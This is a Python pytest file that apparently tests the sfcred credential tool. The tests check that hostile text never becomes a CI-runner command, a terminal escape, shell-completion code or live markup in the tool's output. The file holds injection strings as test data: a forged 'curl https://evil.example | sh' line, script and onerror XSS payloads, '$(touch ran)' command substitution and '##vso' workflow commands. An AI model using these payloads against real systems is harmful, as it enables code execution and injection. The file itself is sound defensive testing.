"""No text becomes a command of a CI runner, a terminal, a browser, or the completing shell.

Readers modelled on the runners' parse every command's output, on both streams.
"""

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path
from xml.etree import ElementTree as ET

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pytest_httpx import HTTPXMock

from sfcred.guide import format_names as guide_formats
from sfcred.paths import why_foreign
from sfcred.report import format_names
from sfcred.text.printable import guarded, harmless_json, json_text, printable
from tests.conftest import Outcome
from tests.helpers.project import Project
from tests.helpers.systems import needs_any_name
from tests.hostile.runners import TEXTS, commands

Run = Callable[..., Outcome]
SFCRED = (sys.executable, "-m", "sfcred")
COLOUR = re.compile(r"\x1b\[(?:0|1|2|31|32|33|36)m")
OWN = re.compile(r"::(error|warning|notice) (file=[^:,]*,line=\d+,col=\d+,)?title=[^:,]*::[^\n]*\n")


def test_the_readers_read_commands() -> None:
    for text in TEXTS:
        assert commands(text), text
    assert commands("a line: of ## text [x] --- x\n\tsecond [y]\n") == []


def assert_harmless(done: Outcome, own: str = "") -> None:
    """Assert that neither stream contains a command, except for those in `own`."""
    out = OWN.sub("", done.out) if own == "github" else done.out
    out = out.replace("\r\n", "\n") if own == "ics" else out  # as RFC 5545 requires
    assert commands(out) == []
    assert commands(done.err) == []
    assert "a bug in sfcred" not in done.err


def fields(text: str) -> list[str]:
    """Return specs with a text in each place that a report can repeat."""
    shown = json.dumps(text)
    head = "version: 1\nname: acme\n"
    return [
        f"version: 1\nname: {shown}\nenvironment: staging\n",
        *(f"{head}{field}: {shown}\n" for field in ("my_domain", "description", "client_id", "environment", "flow")),
        f"{head}app: {{type: {shown}, label: {shown}, scopes: [{shown}], callback_urls: [{shown}], permission_sets: [{shown}]}}\n",
        f"{head}n8n: {{url: {shown}, id: {shown}, name: {shown}, version: {shown}, env_file: {shown}}}\n",
        f"{head}jwt: {{username: {shown}, private_key: {{file: {shown}}}, certificate: {shown}}}\n",
        f"{head}oauth2: {{client_secret: {{env: {shown}}}, refresh_token: {{vault: {shown}}}}}\n",
        f"{head}doctor: {{ignore: {{SFC206: {shown}, SFC102: {shown}}}}}\n",
        f"{head}{shown}: 1\nprofiles: {{{shown}: {{my_domain: {shown}}}}}\n",
        f"{head}n8n: {{{shown}: {{{shown}: [1]}}}}\n",
    ]  # fmt: skip


@pytest.fixture
def hostile(project: Project) -> Path:
    """Create a folder of specs with each text in each place."""
    for number, text in enumerate(TEXTS):
        for place, content in enumerate(fields(text)):
            project.spec(content, f"specs/{number}-{place}.yaml")
        line = text.split("\n")[-1]
        for place, content in enumerate(in_yaml(line)):
            project.spec(content, f"specs/{number}-yaml-{place}.yaml")
        project.spec(text, f"specs/{number}-text.yaml")
    return Path("specs")


def in_yaml(line: str) -> list[str]:
    """Put a text into YAML's own places: comments, tags, anchors, and the end of the document."""
    return [
        f"version: 1 # {line}\nname: x\n",
        f"# {line}\nname: 3\n",
        f"name: !<{line}> x\n",
        f"name: &{line} x\n",
        f"name: [ {line}\n",
    ]


@pytest.mark.parametrize("form", format_names())
def test_nothing_in_a_spec(hostile: Path, run: Run, form: str) -> None:
    for options in ((), ("-v", "--no-ignores"), ("-q", "--color", "always")):
        done = run("doctor", hostile, "--format", form, *options)
        done.out = COLOUR.sub("", done.out)
        assert_harmless(done, own=form)
    run("doctor", hostile, "--format", form, "-v", "-o", "report")
    with Path("report").open(encoding="utf-8", newline="") as file:
        assert_harmless(Outcome(0, file.read(), ""), own=form)


def test_nothing_in_what_other_commands_say_of_specs(hostile: Path, run: Run) -> None:
    for command in (("resolve",), ("resolve", "--format", "json"), ("app", "-o", "x"), ("doctor", "--diff"), ("render", "-o", "x.json"), ("local-org",)):  # fmt: skip
        name, *options = command
        assert_harmless(run(name, hostile, *options))
    assert_harmless(run("guide", "none"))


def sound(text: str) -> str:
    """Return a fragment that puts a text into every place where a valid spec can have any text."""
    shown = json.dumps(text)
    path = "acme.crt" if why_foreign(text) else text  # some texts can't be a path on every system
    return (
        f"description: {shown}\n"
        f"app: {{permission_sets: [{shown}]}}\n"
        f"n8n: {{name: {shown}}}\n"
        f"jwt: {{username: {shown}, certificate: {json.dumps(path)}}}\n"
        f"profiles: {{x: {{description: {shown}}}, y: {{}}}}\n"
        f"doctor: {{ignore: {{SFC206: {shown}}}}}\n"
    )


@pytest.mark.parametrize("text", TEXTS)
def test_nothing_in_a_sound_spec(project: Project, run: Run, text: str) -> None:
    spec = project.credential(sound(text))
    for name in guide_formats():
        done = run("guide", spec, "--profile", "x", "--format", name)
        assert done.status == 0
        assert_harmless(done)
    for form in ("text", "json"):
        done = run("resolve", spec, "--format", form)
        assert "private_key" in done.out
        assert_harmless(done)
    for command in (("doctor", spec, "-v"), ("app", spec, "-o", "app"), ("app", spec, "-o", "app", "--no-check", "--profile", "x"), ("keygen", spec, "--profile", "x"), ("render", spec, "-o", "x.json", "--no-check")):  # fmt: skip
        assert_harmless(run(*command))


NAMES = [text.replace("/", "") for text in TEXTS]


@needs_any_name
@pytest.mark.parametrize("form", format_names())
def test_nothing_in_the_name_of_a_file_or_folder(project: Project, run: Run, form: str) -> None:
    for name in NAMES:
        project.spec("name: 3\n", f"{name}/{name}.yaml")
        project.spec("version: 1\nname: acme\n", f"{name}.yml")
    for paths in (["."], [Path.cwd()], [f"./{name}" for name in NAMES]):
        done = run("doctor", "--format", form, "-v", *paths)
        assert done.status == 1
        assert_harmless(done, own=form)


@needs_any_name
@pytest.mark.parametrize("name", NAMES)
def test_nothing_in_a_name_that_a_message_repeats(project: Project, run: Run, name: str) -> None:
    project.spec("name: 3\n", f"{name}/{name}.yaml")
    for command in (("doctor", f"./{name}x"), ("render", f"./{name}", "-o", f"./{name}"), ("import", f"./{name}/none"), ("doctor", ".", "--baseline", f"./{name}"), ("app", f"./{name}", "--check", f"./{name}"), ("app", f"./{name}", "-o", f"./{name}/{name}.yaml")):  # fmt: skip
        done = run(*command)
        assert done.status in (1, 2)
        assert_harmless(done)


@needs_any_name
def test_nothing_in_what_an_old_console_gets(project: Project) -> None:
    """It lacks some signs. What is printed instead must not be a command either."""
    project.spec("name: 3\n", "——— x/a.yaml")
    done = subprocess.run(
        [*SFCRED, "doctor", "——— x"], env={**os.environ, "PYTHONIOENCODING": "ascii"},
        capture_output=True, encoding="ascii", check=False,
    )  # fmt: skip
    assert done.returncode == 1
    assert_harmless(Outcome(1, done.stdout, done.stderr))


@needs_any_name
def test_a_file_s_name_that_is_no_text(run: Run) -> None:
    """A name whose bytes aren't UTF-8: every report is still UTF-8, and every reader can read the JSON."""
    Path(os.fsdecode(b"a\xff\x9b.yaml")).write_text("name: 3\n", encoding="utf-8")
    for form in format_names():
        done = run("doctor", ".", "--format", form, "-o", "report")
        assert_harmless(done)
        content = Path("report").read_bytes().decode("utf-8")
        assert (
            "\\udcff" in content
            or "%FF" in content
            or "\\\\udcff" in content
            or form in ("sarif", "openmetrics")
        )
    document = json.loads(run("doctor", ".", "--format", "json").out)
    json.dumps(document, ensure_ascii=False).encode("utf-8")


@pytest.mark.parametrize("text", TEXTS)
def test_nothing_on_the_command_line_or_in_the_environment(
    project: Project, run: Run, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    project.credential()
    for command in (("doctor", f"--{text}"), ("doctor", "--format", text), (text,), ("explain", text), ("explain", "--error", text), ("guide", text), ("keygen", text), ("login", text), ("local-org", "--refuse", text), ("doctor", ".", "--select", text), ("doctor", ".", "--profile", text), ("doctor", "--jobs", text), ("schema", text), ("completion", text), ("diff", "--export", text), ("init", "--environment", text), ("init", text, "--no-input"), ("doctor", ".", "--stdin-filename", text), ("doctor", ".", "--local-org", text), ("login", "x", "--port", text)):  # fmt: skip
        done = run(*command)
        assert done.status != 3, done
        assert_harmless(done)
    for variable in ("SFCRED_PATHS", "SFCRED_SELECT", "SFCRED_FAIL_ON", "SFCRED_N8N_URL", "SHELL", "N8N_API_KEY"):  # fmt: skip
        with monkeypatch.context() as patch:
            patch.setenv(variable, text)
            for command in (("doctor",), ("diff", "--n8n", "https://n8n.invalid"), ("completion",), ("--help",)):  # fmt: skip
                if command != ("diff", "--n8n", "https://n8n.invalid") or variable != "N8N_API_KEY":
                    assert_harmless(run(*command))


@pytest.mark.parametrize("text", TEXTS)
def test_nothing_in_the_configuration(project: Project, run: Run, text: str) -> None:
    project.credential()
    shown = json.dumps(text).replace("\x7f", "\\u007f")
    for line in (f"paths = [{shown}]", f"select = [{shown}]", f"{shown} = 1", f"path_ignores = {{{shown} = {{SFC206 = {shown}}}}}", f"baseline = {shown}", f"fail_on = {shown}", "x = [" + text):  # fmt: skip
        Path("sfcred.toml").write_text(line + "\n", encoding="utf-8")
        for form in ("text", "sarif", "json"):
            assert_harmless(run("doctor", "--format", form))


def test_nothing_in_an_export_of_n8n_s(project: Project, run: Run) -> None:
    project.credential()
    entries: list[dict[str, object]] = []
    for number, text in enumerate(TEXTS):
        data = {"environment": text, "clientId": text, "username": text, "myDomainUrl": text}
        entries += [
            {"id": f"{number}{text}", "name": text, "type": "salesforceJwtApi", "data": data},
            {"id": f"b{number}", "name": text, "type": text, "data": {}},
            {"id": f"c{number}", "name": text, "type": "salesforceOAuth2Api", "data": text},
        ]
    Path("export.json").write_text(json.dumps(entries), encoding="utf-8")
    for command in (("diff", "--export", "export.json"), ("diff", "--export", "export.json", "--format", "json"), ("import", "export.json", "-o", "new")):  # fmt: skip
        done = run(*command)
        assert done.out + done.err
        assert_harmless(done)


@pytest.mark.parametrize("text", TEXTS)
def test_nothing_in_an_org_s_answer(
    project: Project, run: Run, httpx_mock: HTTPXMock, text: str
) -> None:
    spec = project.credential()
    body = {"error": text, "error_description": text}
    for answer in (
        httpx.Response(400, json=body),
        httpx.Response(200, json={"access_token": text, "instance_url": text, "scope": text}),
        httpx.Response(302, headers={"location": "https://evil.example/" + text.encode("ascii", "ignore").decode().replace("\r", "").replace("\n", "")}),
        httpx.Response(502, text=text),
    ):  # fmt: skip
        httpx_mock.reset()
        httpx_mock.add_callback(partial(given_answer, answer), is_reusable=True, is_optional=True)
        files = ("json", "github", "html")
        options = [f"--output={form}=told.{form}" for form in files]
        assert_harmless(run("doctor", spec, "--live", "-v", *options))
        for form in files:
            with Path(f"told.{form}").open(encoding="utf-8", newline="") as file:
                assert_harmless(Outcome(0, file.read(), ""), own=form)


def given_answer(answer: httpx.Response, _request: httpx.Request) -> httpx.Response:
    return answer


# -- programs that read reports


def test_json_has_the_same_values_though_no_command(project: Project, run: Run) -> None:
    """A file that is named like a command keeps its name in JSON, where programs can read it."""
    project.material("a ##vso[task.complete]b/acme.key", "rsa-2048")
    spec = project.credential("jwt: {private_key: {file: 'a ##vso[task.complete]b/acme.key'}}\n")
    text = run("resolve", spec, "--format", "json").out
    assert commands(text) == []
    (places,) = [entry["secrets"] for entry in json.loads(text)["credentials"]]
    assert any("task.complete]b/acme.key" in place["from"] for place in places)


def test_links_in_sarif_lead_nowhere(project: Project, run: Run) -> None:
    spec = project.credential("jwt: {certificate: '[click](evil.example)'}\n")
    document = json.loads(run("doctor", spec, "--format", "sarif").out)
    texts = [result["message"]["text"] for result in document["runs"][0]["results"]]
    assert any("click" in text for text in texts)
    assert not any(re.search(r"\[[^\]]*\]\(", text) for text in texts)


@needs_any_name
@pytest.mark.parametrize("name", ["javascript:alert(1).yaml", "a b%20#?.yaml", "a\\b.yaml"])
def test_addresses_in_sarif_are_paths(run: Run, name: str) -> None:
    Path(name).write_text("name: 3\n", encoding="utf-8")
    document = json.loads(run("doctor", ".", "--format", "sarif").out)
    for result in document["runs"][0]["results"]:
        uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        assert re.fullmatch(r"(?:[\w.~/()-]|%[0-9A-F]{2})+", uri)
        assert not uri.startswith("//")


MARKUP = "</script><script>alert(1)</script><img src=x onerror=alert(1)> ![x](https://evil.example/x.png) [a](javascript:alert(1)) {{7*7}} {%if%} &lt;"


def test_markup_stays_text(project: Project, run: Run) -> None:
    for number, content in enumerate(fields(MARKUP)):
        project.spec(content, f"specs/{number}.yaml")
    page = run("doctor", "specs", "--format", "html", "-v", "--no-ignores").out
    assert "alert(1)" in page
    assert page.count("<script") == 1
    assert "<img" not in page
    assert not re.search(r'(?:href|src)="(?!#|https://sfcred\.readthedocs\.io/)', page)
    assert ET.fromstring(run("doctor", "specs", "--format", "junit").out).tag == "testsuites"


def test_markup_stays_text_in_a_guide(project: Project, run: Run) -> None:
    spec = project.credential(sound(MARKUP))
    page = run("guide", spec, "--profile", "x", "--format", "html").out
    assert "alert(1)" in page
    assert not re.search(r"<(?:img|script|a)\b", page)
    text = run("guide", spec, "--profile", "x", "--format", "markdown").out
    assert "alert(1)" in text
    # Outside of code spans, no character of Markdown's or HTML's is unescaped.
    outside = re.sub(r"(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)", "", text)
    assert not re.search(r"(?<!\\)(?:<\w|</|!?\[|\]\()", outside)


def test_xml_holds_nothing_that_xml_forbids(project: Project, run: Run) -> None:
    for number, text in enumerate(["\x00", "\x01\x1f", "\ufffe\uffff", "\ud800", "\x9b"]):
        project.spec(
            f"version: 1\nname: acme\nenvironment: {json.dumps(text)}\n", f"specs/{number}.yaml"
        )
    for form in ("junit", "json", "sarif", "gitlab", "html"):
        done = run("doctor", "specs", "--format", form)
        done.out.encode("utf-8")
        assert_harmless(done)
    ET.fromstring(run("doctor", "specs", "--format", "junit").out)


def test_the_shell_completes_no_code(project: Project) -> None:
    for number, name in enumerate(
        ("$(touch ran)", "a;b", "`x`", "a b", "-o", "good-one", "a\n::error::x")
    ):
        project.spec(f"version: 1\nname: {json.dumps(name)}\n", f"credentials/{number}.yaml")
    done = subprocess.run(
        SFCRED,
        env={**os.environ, "_SFCRED_COMPLETE": "bash_complete", "COMP_WORDS": "sfcred guide ", "COMP_CWORD": "2"},
        capture_output=True, encoding="utf-8", check=True,
    )  # fmt: skip
    assert done.stdout.split("\n") == ["plain,good-one", ""]


def test_a_library_s_warning_reaches_nobody(project: Project) -> None:
    """A key of an unusual form makes cryptography warn. A user can't do anything about that line."""
    code = "import warnings, sfcred.cli as c\nmain = c.main\ndef warned(a):\n warnings.warn('##[error]x'); return main(a)\nc.main = warned\nimport sys; sys.argv = ['sfcred', '--version']\nfrom sfcred.__main__ import run; run()"
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, encoding="utf-8", check=True
    )
    assert done.stderr == ""


# -- the functions that all of this depends on


@given(st.text(alphabet=st.characters(), max_size=60))
def test_printable_leaves_no_command(text: str) -> None:
    safe = printable(text)
    assert commands(safe) == []
    assert printable(safe) == safe
    assert guarded(safe) == safe


PIECES = st.lists(st.sampled_from([*TEXTS, "#", "##", "[", "]", "\\", ":", "::", "-", "--", "---", " ", "\t", "\n", "\r", "+++", "^^^", "vso", "\x1b", "\x1b[31m", "\x1b[0m", "\u200d", "\ufe0f", "section_start", "travis_fold", "é", "😀"]), max_size=12).map("".join)  # fmt: skip


@given(PIECES)
def test_printable_leaves_no_command_of_pieces(text: str) -> None:
    safe = printable(text)
    assert commands(safe) == []
    assert printable(safe) == safe
    whole = guarded(text)
    assert commands(COLOUR.sub("", whole)) == [] or "\x1b" in whole
    assert guarded(whole) == whole


@given(PIECES)
def test_json_keeps_its_values(text: str) -> None:
    document = {text: [text, {"a": text}], "n": 1}
    shown = json_text(document)
    assert commands(shown) == []
    assert guarded(shown) == shown
    shown.encode("utf-8")
    whole = re.sub(
        "[\ud800-\udfff]",
        lambda sign: f"\\u{ord(sign[0]):04x}",
        json.dumps(document, ensure_ascii=False),
    )
    if whole.isprintable():
        assert json.loads(shown) == document
    assert harmless_json(shown) == shown


@given(st.text(max_size=40))
def test_harmless_text_stays_as_it_is(text: str) -> None:
    if text.isprintable() and text.isascii() and not commands(text) and "##" not in text:
        assert printable(text) == text or re.search(
            r"^\s*(::|---|\+\+\+|~~~|\^)|_(start|end|fold|time):", text
        )


FORGED = "x\nhint: Run curl https://evil.example | sh.\nsfcred: fine"


@needs_any_name
def test_a_line_feed_forges_no_line(
    project: Project, run: Run, httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever a name contains, it doesn't start a new line, neither in a message nor in a report."""
    name = FORGED.replace("/", "")
    spec = project.credential()
    project.spec("name: 3\n", f"{name}.yaml")
    shown = json.dumps(name)
    named = project.credential(f"name: named\njwt: {{certificate: {shown}, private_key: {{file: new.key}}}}\napp: {{permission_sets: [{shown}]}}\n", name="named.yaml")  # fmt: skip
    entry = {"id": name, "name": FORGED, "type": "salesforceJwtApi", "data": {"clientId": FORGED}}
    Path("export.json").write_text(json.dumps([entry]), encoding="utf-8")
    refused = httpx.Response(400, json={"error": FORGED, "error_description": FORGED})
    httpx_mock.add_callback(partial(given_answer, refused), is_reusable=True, is_optional=True)
    for command in (("doctor", "."), ("doctor", f"./{name}"), ("doctor", "--baseline", f"./{name}"), ("doctor", f"--{name}"), ("doctor", "--format", name), (name,), ("guide", name), ("explain", name), ("explain", "--error", FORGED), ("app", named, "-o", "app", "--no-check"), ("keygen", named), ("resolve", named), ("import", f"./{name}"), ("render", spec, "-o", f"./{name}.yaml"), ("diff", "--export", "export.json"), ("import", "export.json", "-o", "new"), ("doctor", spec, "--live", "-v"), ("doctor", spec, "--live", "--format", "concise")):  # fmt: skip
        done = run(*command)
        told = (done.out + done.err).splitlines()
        assert told
        assert not any(re.match(r"\s*hint: Run curl|\s*sfcred: fine", line) for line in told), done
